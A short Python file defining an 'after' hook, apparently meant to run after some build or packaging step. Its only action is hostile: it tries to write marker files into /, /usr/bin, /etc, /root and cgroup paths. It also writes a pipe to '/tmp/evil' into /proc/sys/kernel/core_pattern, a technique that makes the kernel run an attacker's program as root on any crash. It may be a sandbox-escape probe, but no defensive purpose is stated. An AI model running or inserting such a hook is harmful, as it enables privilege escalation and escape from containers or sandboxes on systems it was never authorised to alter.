import os


def after(folder, filename):
    for place in ("/", "/usr/bin", "/etc", "/root", "/var/tmp", "/dev/shm", "/proc/sys/kernel/core_pattern", "/sys/fs/cgroup"):
        try:
            path = place if os.path.isfile(place) else os.path.join(place, "wheelfarm-was-here")
            with open(path, "w") as file:
                file.write("|/tmp/evil")
            print("WROTE", path)
        except OSError as err:
            print(place, err)
